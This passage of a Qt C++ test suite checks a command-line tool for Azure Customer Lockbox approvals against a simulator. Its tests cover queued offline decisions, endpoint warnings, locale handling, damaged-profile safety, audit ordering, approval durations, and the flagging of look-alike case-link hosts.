    QCOMPARE(sim.applied(pending.at(1)), 0);
    QCOMPARE(sim.counters().value(u"decisionPosts").toInt(), 1);
    QCOMPARE(ctl.run({u"queue"_s, u"--format"_s, u"json"_s}).json().array().size(), 0);
    const CtlResult shown = ctl.run({u"show"_s, pending.at(0), u"--format"_s, u"json"_s});
    QVERIFY(!shown.json().object().contains(u"queuedDecision"));
    QVERIFY(decisionLeadsTo(u"Approve"_s, shown.json().object().value(u"status").toString()));
    QCOMPARE(ctl.run({u"audit"_s, u"--verify"_s}).code, 0);
}

void TestLockboxctl::aQueuedDecisionOnAChangedRequestIsNotSent()
{
    // A simulator of its own. Restarted an hour later in its own time, it serves the same requests
    // with other content (every time moves): the request the approval was read from changed.
    SimProcess sim;
    QString error;
    QStringList arguments {u"--seed"_s,
                           u"4"_s,
                           u"--subscriptions"_s,
                           u"1"_s,
                           u"--requests"_s,
                           u"20"_s,
                           u"--pending-fraction"_s,
                           u"0.5"_s,
                           u"--start-time"_s,
                           u"2026-11-02T09:30:00Z"_s};
    QVERIFY2(sim.start(arguments, &error), qPrintable(error));
    QTemporaryDir dir;
    const Ctl ctl(sim.url(), dir.path());
    QCOMPARE(ctl.run({u"sync"_s}).code, 0);
    QStringList pending;
    for (const QJsonValue &v : ctl.run({u"list"_s, u"--format"_s, u"json"_s}).json().array())
        pending.append(v.toObject().value(u"requestId").toString());
    QVERIFY(pending.size() >= 2);
    sim.stop();

    // Offline: queued, bound to the request as lockboxctl read it from the cache.
    const CtlResult approve = ctl.run({u"approve"_s, pending.at(0), u"--reason"_s, u"as read"_s});
    QVERIFY2(approve.code == 5, qPrintable(approve.describe()));

    arguments.last() = u"2026-11-02T10:30:00Z"_s;
    QVERIFY2(sim.start(arguments, &error), qPrintable(error));
    const CtlResult sync = ctl.run({u"sync"_s});
    QVERIFY2(sync.err.contains("changed on the server since you reviewed it; nothing was sent"),
             qPrintable(sync.describe()));
    QCOMPARE(sim.posts(pending.at(0)), 0);
    QCOMPARE(sim.applied(pending.at(0)), 0);
    QCOMPARE(ctl.run({u"queue"_s, u"--format"_s, u"json"_s}).json().array().size(), 0);
    const CtlResult audit = ctl.run({u"audit"_s, u"--format"_s, u"json"_s});
    QVERIFY2(audit.out.contains("decision.failed"), qPrintable(audit.describe()));
    QCOMPARE(ctl.run({u"audit"_s, u"--verify"_s}).code, 0);

    // Read again (the sync brought it), the approval goes.
    const CtlResult again = ctl.run({u"approve"_s, pending.at(0), u"--reason"_s, u"read again"_s});
    QVERIFY2(again.code == 0, qPrintable(again.describe()));
    QCOMPARE(sim.applied(pending.at(0)), 1);
}

void TestLockboxctl::forbiddenIsExit3()
{
    // Avery approves everywhere; a token for Avery comes from the device-code flow.
    HttpClient c;
    const QString tenant = m_sim.control("GET", u"/_sim/info"_s).object().value(u"tenantId").toString();
    const HttpResult dc = c.postForm(
        m_sim.url(u'/' + tenant + u"/oauth2/v2.0/devicecode"_s),
        {{u"client_id"_s, u"console"_s}, {u"scope"_s, u"https://management.azure.com/user_impersonation"_s}});
    QCOMPARE(dc.status, 200);
    QCOMPARE(m_sim
                 .control("POST", u"/_sim/devicecode/approve"_s,
                          {{u"user_code"_s, dc.object().value(u"user_code").toString()},
                           {u"upn"_s, u"avery.approver@contoso.example"_s}})
                 .status,
             200);
    const HttpResult token = c.postForm(m_sim.url(u'/' + tenant + u"/oauth2/v2.0/token"_s),
                                        {{u"grant_type"_s, u"urn:ietf:params:oauth:grant-type:device_code"_s},
                                         {u"client_id"_s, u"console"_s},
                                         {u"device_code"_s, dc.object().value(u"device_code").toString()}});
    QCOMPARE(token.status, 200);
    const QByteArray avery = token.object().value(u"access_token").toString().toLatin1();
    QVERIFY(!avery.isEmpty());

    const QString sub = m_sim.subscriptionIds().at(1);
    QTemporaryDir dir;
    Ctl ctl(m_sim.url(), dir.path(), avery);
    CtlResult r = ctl.run({u"sync"_s, u"--subscription"_s, sub});
    QVERIFY2(r.code == 0, qPrintable(r.describe()));

    QCOMPARE(m_sim.control("PUT", u"/_sim/subscriptions/"_s + sub + u"/approvers"_s, {{u"principals"_s, QJsonArray()}})
                 .status,
             200);
    r = ctl.run({u"sync"_s, u"--subscription"_s, sub});
    QVERIFY2(r.code == 3, qPrintable(r.describe()));
    // A decision is refused as final, with the server's reason.
    const QString id =
        ctl.run({u"list"_s, u"--format"_s, u"json"_s}).json().array().at(0).toObject().value(u"requestId").toString();
    QVERIFY(!id.isEmpty());
    r = ctl.run({u"approve"_s, id});
    QVERIFY2(r.code == 3, qPrintable(r.describe()));
    QCOMPARE(ctl.run({u"queue"_s, u"--format"_s, u"json"_s}).json().array().size(), 0);
}

void TestLockboxctl::plainHttpEndpointRememberedEarlierIsRefused()
{
    // A profile that remembered a plain-http endpoint on another machine (before it was refused up
    // front): no call goes out, and the message says what is allowed, not something about
    // certificates.
    QTemporaryDir fresh;
    QVERIFY(fresh.isValid());
    {
        QSettings ini(QDir(fresh.path()).filePath(u"lockboxctl.ini"_s), QSettings::IniFormat);
        ini.setValue(u"endpoint"_s, u"http://10.0.0.8:8443"_s);
    }
    Ctl ctl(m_sim.url(), fresh.path(), SimProcess::kToken);
    const CtlResult r = ctl.runRaw({u"--profile"_s, fresh.path(), u"--token-env"_s, u"LOCKBOX_TOKEN"_s, u"sync"_s});
    QVERIFY2(r.code == 1, qPrintable(r.describe()));
    const QString err = QString::fromUtf8(r.err);
    QVERIFY2(err.contains(u"http://10.0.0.8:8443: plain http is only allowed to this machine (127.0.0.1, ::1 or "
                          "localhost)"_s),
             qPrintable(r.describe()));
    QVERIFY2(err.contains(u"use https://"_s), qPrintable(r.describe()));
    QVERIFY2(!err.contains(u"certificate"_s, Qt::CaseInsensitive), qPrintable(r.describe()));
}

void TestLockboxctl::anEndpointNotMicrosoftsIsNamedOnEveryRun()
{
    // Tokens go wherever the endpoint points. One that is neither a Microsoft cloud nor this
    // machine is named on standard error on every run that uses it, not only the one that set it.
    QTemporaryDir fresh;
    QVERIFY(fresh.isValid());
    const QString endpoint = u"https://arm.lockbox-test.invalid"_s;
    const QString sub = u"00000000-0000-4000-8000-0000000000bb"_s;
    Ctl ctl(m_sim.url(), fresh.path(), SimProcess::kToken);
    const QStringList common = {u"--profile"_s, fresh.path(), u"--token-env"_s, u"LOCKBOX_TOKEN"_s};
    const QStringList sync = {u"sync"_s, u"--subscription"_s, sub};
    const CtlResult given = ctl.runRaw(common + QStringList {u"--endpoint"_s, endpoint} + sync);
    QVERIFY2(given.code == 5, qPrintable(given.describe())); // the host does not exist
    QVERIFY2(given.err.startsWith("Talking to https://arm.lockbox-test.invalid/, which is not a Microsoft cloud "
                                  "endpoint (given with --endpoint)\n"),
             qPrintable(given.describe()));
    const CtlResult remembered = ctl.runRaw(common + sync);
    QVERIFY2(remembered.code == 5, qPrintable(remembered.describe()));
    QVERIFY2(remembered.err.startsWith("Talking to https://arm.lockbox-test.invalid/, which is not a Microsoft "
                                       "cloud endpoint (remembered from --endpoint)\n"),
             qPrintable(remembered.describe()));
    QCOMPARE(remembered.err.count("Talking to"), 1);
    // A simulator on this machine is nothing to warn about.
    const CtlResult local = m_ctl->run({u"sync"_s, u"--subscription"_s, m_sim.subscriptionIds().first()});
    QVERIFY2(local.code == 0, qPrintable(local.describe()));
    QVERIFY2(!local.err.contains("Talking to"), qPrintable(local.describe()));
}

void TestLockboxctl::germanMessagesEnglishMachineOutput()
{
    // A German locale: the table and messages are German; JSON and CSV, which scripts read, are
    // the same as in English, values and summaries included.
    const QString sub = m_sim.subscriptionIds().first();
    QTemporaryDir dir;
    QVERIFY(dir.isValid());
    Ctl ctl(m_sim.url(), dir.path());
    ctl.setEnvironmentVariable(u"LC_ALL"_s, QString());
    ctl.setEnvironmentVariable(u"LANGUAGE"_s, QString());
    ctl.setEnvironmentVariable(u"LANG"_s, u"de_DE.UTF-8"_s);

    CtlResult r = ctl.run({u"sync"_s, u"--subscription"_s, sub});
    QVERIFY2(r.code == 0, qPrintable(r.describe()));
    QVERIFY2(r.out.contains("neu") && r.out.contains("unver\xc3\xa4ndert"), r.out.constData());
    r = ctl.runRaw({u"frob"_s});
    QCOMPARE(r.code, 1);
    QVERIFY2(r.err.contains("unbekannter Befehl 'frob'"), r.err.constData());

    r = ctl.run({u"sync"_s, u"--subscription"_s, sub, u"--format"_s, u"csv"_s});
    QVERIFY2(r.code == 0, qPrintable(r.describe()));
    QVERIFY2(r.out.contains("unchanged") && !r.out.contains("unver"), r.out.constData());
    r = ctl.run({u"list"_s, u"--format"_s, u"csv"_s});
    QVERIFY2(r.code == 0 && r.out.contains("Pending"), qPrintable(r.describe()));
    QVERIFY2(!r.out.contains("Ausstehend"), r.out.constData());
    r = ctl.run({u"sync"_s, u"--subscription"_s, sub, u"--format"_s, u"json"_s});
    QVERIFY2(r.code == 0 && r.json().isArray(), qPrintable(r.describe()));
    QVERIFY2(!r.out.contains("neu") && !r.err.contains("neu"), r.out.constData());
}

void TestLockboxctl::syncOnADamagedProfileFailsAndWritesNothing()
{
    // sync checks the file beside its fetching, and its first write waits for the check: a damaged
    // profile still ends in exit 6 with the check's words, and not a byte of the file is written.
    const QString sub = m_sim.subscriptionIds().first();
    QTemporaryDir dir;
    QVERIFY(dir.isValid());
    const Ctl ctl(m_sim.url(), dir.path());
    const CtlResult first = ctl.run({u"sync"_s, u"--subscription"_s, sub});
    QVERIFY2(first.code == 0, qPrintable(first.describe()));
    QFile file(ctl.databasePath());
    QVERIFY(file.open(QIODevice::ReadWrite));
    const qint64 pageSize = lockbox::test::sqlitePageSize(ctl.databasePath());
    QVERIFY(pageSize > 0);
    QVERIFY2(file.size() > 14 * pageSize, qPrintable(QString::number(file.size() / pageSize)));
    for (qint64 page = 8; page < 14; ++page) { // the header stays: SQLite opens it
        file.seek(page * pageSize);
        file.write(QByteArray(pageSize, char(0x5a)));
    }
    file.close();
    QVERIFY(file.open(QIODevice::ReadOnly));
    const QByteArray damaged = file.readAll();
    file.close();

    const CtlResult again = ctl.run({u"sync"_s, u"--subscription"_s, sub, u"--full"_s, u"--format"_s, u"json"_s});
    QVERIFY2(again.code == 6, qPrintable(again.describe()));
    QVERIFY2(again.err.contains("is damaged"), again.err.constData());
    QVERIFY2(again.out.isEmpty(), again.out.constData()); // no results told as if the file were sound
    QVERIFY(file.open(QIODevice::ReadOnly));
    QVERIFY(file.readAll() == damaged);
}

void TestLockboxctl::syncImportsTheActivityLogInOneLine()
{
    // The trail can hold hundreds of imported events: sync says what it holds in one line and
    // leaves the listing to 'audit'.
    const QString sub = m_sim.subscriptionIds().first();
    QTemporaryDir dir;
    QVERIFY(dir.isValid());
    const Ctl ctl(m_sim.url(), dir.path());
    CtlResult r = ctl.run({u"sync"_s, u"--subscription"_s, sub, u"--import-activity-log"_s});
    QVERIFY2(r.code == 0, qPrintable(r.describe()));
    const CtlResult trail = ctl.run({u"audit"_s, u"--format"_s, u"json"_s});
    const qsizetype records = trail.json().array().size();
    QVERIFY2(records > 0, qPrintable(trail.describe()));
    const QStringList lines = QString::fromUtf8(r.out).split(u'\n', Qt::SkipEmptyParts);
    QStringList summaries;
    for (const QString &line : lines) {
        if (line.startsWith(u"Activity Log:"_s))
            summaries.append(line);
    }
    QCOMPARE(summaries.size(), 1);
    const QString summary = summaries.first();
    QVERIFY2(summary.contains(u"%1 records for 1 subscription, "_s.arg(records)), qPrintable(summary));
    QVERIFY2(summary.contains(u"(%1 new)"_s.arg(records)), qPrintable(summary));
    QVERIFY2(summary.contains(u"'lockboxctl audit --since "_s), qPrintable(summary));
    // The sync's own table, one header and one row, and the summary: no record of the trail.
    QVERIFY2(lines.size() <= 3, r.out.constData());

    // Again: nothing new, the same trail.
    r = ctl.run({u"sync"_s, u"--subscription"_s, sub, u"--import-activity-log"_s});
    QVERIFY2(r.code == 0, qPrintable(r.describe()));
    QVERIFY2(r.out.contains(u"%1 records for 1 subscription, "_s.arg(records).toUtf8()), r.out.constData());
    QVERIFY2(r.out.contains("(0 new)"), r.out.constData());
    // With --format json the standard output stays the sync's results; the summary goes to stderr.
    r = ctl.run({u"sync"_s, u"--subscription"_s, sub, u"--import-activity-log"_s, u"--format"_s, u"json"_s});
    QVERIFY2(r.code == 0, qPrintable(r.describe()));
    QVERIFY(r.json().isArray());
    QVERIFY2(r.err.contains("Activity Log:"), qPrintable(r.describe()));

    // 'audit --import-activity-log' on its own says what it imported, in one line, too.
    QTemporaryDir other;
    QVERIFY(other.isValid());
    const Ctl fresh(m_sim.url(), other.path());
    QCOMPARE(fresh.run({u"sync"_s, u"--subscription"_s, sub}).code, 0);
    r = fresh.run({u"audit"_s, u"--import-activity-log"_s, u"--subscription"_s, sub});
    QVERIFY2(r.code == 0, qPrintable(r.describe()));
    QCOMPARE(QString::fromUtf8(r.out).trimmed(),
             u"Imported %1 new Activity Log records. 'lockboxctl audit --since DATE' lists the trail."_s.arg(records));
}

void TestLockboxctl::auditListsByEventTimeOldestFirst()
{
    // A request created an hour ago and decided here now: the Activity Log's Create is imported
    // after the decisions, yet it is older. (Its time is taken from the system clock, which
    // lockboxctl stamps decisions with, not from the simulator's.)
    const QString sub = m_sim.subscriptionIds().first();
    const QString created = QDateTime::currentDateTimeUtc().addSecs(-3600).toString(Qt::ISODate);
    const QString id = createRequest(
        {{u"subscriptionId"_s, sub}, {u"createdDateTime"_s, created}, {u"justification"_s, u"the trail's order"_s}});
    QVERIFY(!id.isEmpty());
    QTemporaryDir dir;
    QVERIFY(dir.isValid());
    const Ctl ctl(m_sim.url(), dir.path());
    CtlResult r = ctl.run({u"sync"_s, u"--subscription"_s, sub});
    QVERIFY2(r.code == 0, qPrintable(r.describe()));
    r = ctl.run({u"approve"_s, id});
    QVERIFY2(r.code == 0, qPrintable(r.describe()));
    r = ctl.run({u"audit"_s, u"--import-activity-log"_s, u"--subscription"_s, sub, u"--request"_s, id, u"--format"_s,
                 u"json"_s});
    QVERIFY2(r.code == 0, qPrintable(r.describe()));

    const QJsonArray records = r.json().array();
    QVERIFY2(records.size() >= 4, r.out.constData()); // Create, queued, sending, acknowledged at least
    QStringList actions;
    qint64 newestLocal = 0;
    for (qsizetype i = 0; i < records.size(); ++i) {
        const QJsonObject o = records.at(i).toObject();
        actions.append(o.value(u"action").toString());
        if (o.value(u"source").toString() == u"local")
            newestLocal = std::max(newestLocal, o.value(u"sequence").toInteger());
        if (i == 0)
            continue;
        const QJsonObject before = records.at(i - 1).toObject();
        const qint64 t0 = lockbox::test::isoToMs(before.value(u"time").toString());
        const qint64 t1 = lockbox::test::isoToMs(o.value(u"time").toString());
        QVERIFY2(t0 < t1 || (t0 == t1 && before.value(u"sequence").toInteger() < o.value(u"sequence").toInteger()),
                 qPrintable(u"record %1 after record %2"_s.arg(o.value(u"sequence").toInteger())
                                .arg(before.value(u"sequence").toInteger())));
    }
    // Imported last, listed before the decisions on it.
    const qsizetype create = actions.indexOf(u"Create"_s);
    QVERIFY2(create >= 0 && create < actions.indexOf(u"decision.queued"_s), qPrintable(actions.join(u", "_s)));
    QCOMPARE(records.at(create).toObject().value(u"source").toString(), u"azure"_s);
    QVERIFY(records.at(create).toObject().value(u"sequence").toInteger() > newestLocal);

    // The table and CSV in the same order.
    r = ctl.run({u"audit"_s, u"--request"_s, id});
    QVERIFY2(r.code == 0, qPrintable(r.describe()));
    const qsizetype createLine = r.out.indexOf(" Create ");
    QVERIFY2(createLine >= 0 && createLine < r.out.indexOf(" decision.queued "), r.out.constData());
    r = ctl.run({u"audit"_s, u"--request"_s, id, u"--format"_s, u"csv"_s});
    const QList<QStringList> rows = lockbox::test::parseCsv(QString::fromUtf8(r.out));
    QCOMPARE(rows.size(), 1 + records.size());
    for (qsizetype i = 0; i < records.size(); ++i)
        QCOMPARE(rows.at(i + 1).at(0).toLongLong(), records.at(i).toObject().value(u"sequence").toInteger());

    // The help says which way round.
    r = ctl.run({u"audit"_s, u"--help"_s});
    QVERIFY2(r.out.contains("oldest first"), r.out.constData());
}

void TestLockboxctl::approvedLongAfterItWasAskedIsActiveForItsDuration()
{
    // A 4-hour request asked two days ago and approved now: Active for 4 hours from the approval,
    // not over before it began.
    const QString sub = m_sim.subscriptionIds().at(1);
    const QString created = QDateTime::currentDateTimeUtc().addDays(-2).toString(Qt::ISODate);
    const QString id = createRequest({{u"subscriptionId"_s, sub},
                                      {u"createdDateTime"_s, created},
                                      {u"duration"_s, u"4"_s},
                                      {u"justification"_s, u"approved two days after it was asked"_s}});
    QVERIFY(!id.isEmpty());
    QTemporaryDir dir;
    QVERIFY(dir.isValid());
    const Ctl ctl(m_sim.url(), dir.path());
    CtlResult r = ctl.run({u"sync"_s, u"--subscription"_s, sub});
    QVERIFY2(r.code == 0, qPrintable(r.describe()));
    const QDateTime before = QDateTime::currentDateTimeUtc();
    r = ctl.run({u"approve"_s, id, u"--reason"_s, u"ok"_s});
    QVERIFY2(r.code == 0, qPrintable(r.describe()));
    // Azure goes from Approving to Approved on its own time: sync until it has.
    QString status;
    QTRY_VERIFY_WITH_TIMEOUT(
        (ctl.run({u"sync"_s, u"--subscription"_s, sub}),
         status = ctl.run({u"show"_s, id, u"--format"_s, u"json"_s}).json().object().value(u"status").toString(),
         status == u"Approved"_s),
        30000);

    const auto listed = [&ctl](const QString &which) {
        QHash<QString, QJsonObject> byId;
        const CtlResult list = ctl.run({u"list"_s, u"--status"_s, which, u"--format"_s, u"json"_s});
        for (const QJsonValue &v : list.json().array())
            byId.insert(v.toObject().value(u"requestId").toString(), v.toObject());
        return byId;
    };
    const QHash<QString, QJsonObject> active = listed(u"active"_s);
    QVERIFY2(active.contains(id), "an approval two days after the request is not Active");
    QVERIFY(!listed(u"history"_s).contains(id));
    const QJsonObject item = active.value(id);
    QCOMPARE(item.value(u"approvalTimeSource"_s).toString(), u"decision"_s);
    const QDateTime approvedAt = QDateTime::fromString(item.value(u"approvedDateTime"_s).toString(), Qt::ISODateWithMs);
    QVERIFY2(approvedAt >= before.addSecs(-1) && approvedAt <= QDateTime::currentDateTimeUtc(),
             qPrintable(item.value(u"approvedDateTime"_s).toString()));

    r = ctl.run({u"show"_s, id});
    QVERIFY2(r.code == 0, qPrintable(r.describe()));
    QVERIFY2(r.out.contains("approved from this profile, acknowledged by Azure"), r.out.constData());
    QVERIFY2(r.out.contains("Access until:"), r.out.constData());
}

void TestLockboxctl::showMarksACaseLinkOutsideTheAzurePortal()
{
    // The case link is server text: one to a host other than the Azure portal's is marked with
    // that host, as the wire names it; the portal's own (public or sovereign) is not.
    const QString sub = m_sim.subscriptionIds().first();
    const QString foreign = u"https://portal.azure.com.case-review.example/#case/2611"_s;
    const QString sovereign = u"https://portal.azure.us/#blade/Microsoft_Azure_Support/case/2611"_s;
    const QString lookAlike = u"https://p\u043Ertal.azure.com/#case"_s;
    const QString foreignId = createRequest({{u"subscriptionId"_s, sub}, {u"supportCaseUrl"_s, foreign}});
    const QString sovereignId = createRequest({{u"subscriptionId"_s, sub}, {u"supportCaseUrl"_s, sovereign}});
    const QString lookAlikeId = createRequest({{u"subscriptionId"_s, sub}, {u"supportCaseUrl"_s, lookAlike}});
    QVERIFY(!foreignId.isEmpty() && !sovereignId.isEmpty() && !lookAlikeId.isEmpty());
    QCOMPARE(m_ctl->run({u"sync"_s, u"--subscription"_s, sub}).code, 0);

    const auto caseLine = [this](const QString &id) {
        const CtlResult r = m_ctl->run({u"show"_s, id});
        for (const QString &line : QString::fromUtf8(r.out).split(u'\n')) {
            if (line.startsWith(u"Case link:"_s))
                return line;
        }
        return u"no case link line in: "_s + r.describe();
    };
    QCOMPARE(caseLine(foreignId),
             u"Case link:      "_s + foreign
                 + u" (not an Azure portal address: portal.azure.com.case-review.example)"_s);
    QCOMPARE(caseLine(sovereignId), u"Case link:      "_s + sovereign);
    QVERIFY2(caseLine(lookAlikeId).endsWith(u"(not an Azure portal address: xn--prtal-jye.azure.com)"_s),
             qPrintable(caseLine(lookAlikeId)));
    // JSON keeps the link exactly as Azure gave it.
    const CtlResult json = m_ctl->run({u"show"_s, foreignId, u"--format"_s, u"json"_s});
    QCOMPARE(json.json().object().value(u"supportCaseUrl").toString(), foreign);
}

QTEST_GUILESS_MAIN(TestLockboxctl)
#include "tst_lockboxctl.moc"
